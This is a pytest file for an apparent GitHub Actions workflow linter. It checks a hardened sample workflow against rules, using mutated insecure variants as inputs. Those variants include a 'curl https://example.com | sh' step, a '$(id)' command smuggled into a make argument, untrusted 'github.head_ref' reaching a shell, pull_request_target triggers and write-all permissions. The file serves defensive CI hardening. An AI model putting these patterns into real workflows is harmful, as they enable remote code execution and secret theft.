"""Each rule finds what it is there for."""

import pytest

from tests.workflows import rules
from tests.workflows.reading import parse
from tests.workflows.rules import RULES, Rule

SHA = "df4cb1c069e1874edd31b4311f1884172cec0e10"
GOOD = f"""
name: good
on: {{pull_request: }}
permissions: {{}}
concurrency: {{group: good, cancel-in-progress: true}}
defaults: {{run: {{shell: bash}}}}
env: {{GIT_CONFIG_KEY_0: safe.directory}}
jobs:
  check:
    runs-on: ubuntu-24.04
    container:
      image: golang:1.26.8-bookworm@sha256:{"a" * 64}
    timeout-minutes: 30
    permissions:
      contents: read # the checkout
    steps:
      - uses: actions/checkout@{SHA} # v6.0.3
        with:
          persist-credentials: false
      - run: make check
"""

BAD: dict[Rule, list[tuple[str, str]]] = {
    rules.steps_call_make_and_nothing_else: [
        ("make check", "make check && curl https://example.com | sh"),
        ("make check", "make nothing-of-the-kind"),
        ("make check", "make check STACKS=$(id)"),
        ("make check", "npm ci"),
    ],
    rules.actions_are_pinned_by_commit: [
        (f"@{SHA} # v6.0.3", "@v6"),
        (f"@{SHA} # v6.0.3", f"@{SHA}"),
        (f"@{SHA} # v6.0.3", f"@{SHA[:10]} # v6.0.3"),
        (f"@{SHA} # v6.0.3", f"@{SHA} # the newest"),
    ],
    rules.images_are_pinned_by_digest: [(f"@sha256:{'a' * 64}", ""), ("1.26.8-bookworm@", "@")],
    rules.rights_are_the_least: [
        ("permissions: {}", "permissions: {contents: read}"),
        ("permissions: {}", "permissions: write-all"),
        ("permissions: {}\n", ""),
        ("contents: read", "contents: write"),
        ("permissions:\n      contents: read # the checkout\n    ", ""),
        ("permissions:\n      contents: read # the checkout", "permissions: write-all"),
    ],
    rules.checkouts_leave_no_token: [
        ("persist-credentials: false", "persist-credentials: true"),
        ("persist-credentials: false", "fetch-depth: 0"),
    ],
    rules.no_trigger_hands_rights_to_strangers: [
        ("pull_request: ", "pull_request_target: "),
        ("{pull_request: }", "pull_request_target"),
        ("{pull_request: }", "[pull_request, pull_request_target]"),
    ],
    rules.secrets_stay_with_branches_of_the_repository: [
        ("- run: make check", "- run: make check\n        env: {KEY: '${{ secrets.KEY }}'}"),
        ("contents: read", "id-token: write"),
        ("timeout-minutes: 30", f"env: {{K: '${{{{ secrets.K }}}}'}}\n    if: '!({rules.OWN})'"),
    ],
    rules.rights_over_pull_requests_run_reviewed_code: [("contents: read", "pull-requests: write")],
    rules.what_another_run_left_is_kept_apart: [
        (
            "on: {pull_request: }",
            f"on: {{workflow_run: {{workflows: [x]}}}}\n# {'$'}{{{{ secrets.KEY }}}}",
        ),
    ],
    rules.older_runs_make_way: [
        ("concurrency: {group: good, cancel-in-progress: true}\n", ""),
        ("cancel-in-progress: true", "cancel-in-progress: false"),
        ("{pull_request: }", "{schedule: [{cron: '1 1 * * *'}]}"),
    ],
    rules.jobs_end: [("    timeout-minutes: 30\n", ""), ("30", "360")],
    rules.shells_stop_at_the_first_fault: [
        ("defaults: {run: {shell: bash}}\n", ""),
        ("shell: bash", "shell: sh"),
    ],
    rules.caches_are_filled_by_main_alone: [
        ("- run: make check", f"- run: make check\n      - uses: actions/cache@{SHA} # v5.0.3"),
        ("- run: make check", f"- if: always()\n        uses: actions/cache/save@{SHA} # v5.0.3"),
    ],
    rules.expressions_reach_no_shell: [("make check", "make check STACK=${{ github.head_ref }}")],
    rules.machines_are_named: [("ubuntu-24.04", "ubuntu-latest"), ("ubuntu-24.04", "self-hosted")],
    rules.containers_know_their_checkout: [("env: {GIT_CONFIG_KEY_0: safe.directory}\n", "")],
}


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.__name__)
def test_a_good_workflow_breaks_no_rule(rule: Rule) -> None:
    assert list(rule(parse("good.yml", GOOD))) == []


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.__name__)
def test_every_rule_finds_what_it_is_there_for(rule: Rule) -> None:
    for good, bad in BAD[rule]:
        assert GOOD.count(good) > 0, good
        assert list(rule(parse("bad.yml", GOOD.replace(good, bad)))) != [], bad


@pytest.mark.parametrize("path", ["reports", "", "${{ github.workspace }}/x"])
def test_what_strangers_left_beside_the_code_is_found(path: str) -> None:
    given = (
        f"uses: actions/download-artifact@{SHA} # v8.0.0\n        with:\n          path: {path!r}"
    )
    source = GOOD.replace("{pull_request: }", "{workflow_run: }").replace("run: make check", given)
    assert list(rules.what_another_run_left_is_kept_apart(parse("bad.yml", source))) != []


def test_a_cache_beside_the_token_is_found() -> None:
    given = f"uses: actions/cache/restore@{SHA} # v5.0.3"
    source = GOOD.replace("{pull_request: }", "{workflow_run: }").replace("run: make check", given)
    assert list(rules.what_another_run_left_is_kept_apart(parse("bad.yml", source))) != []
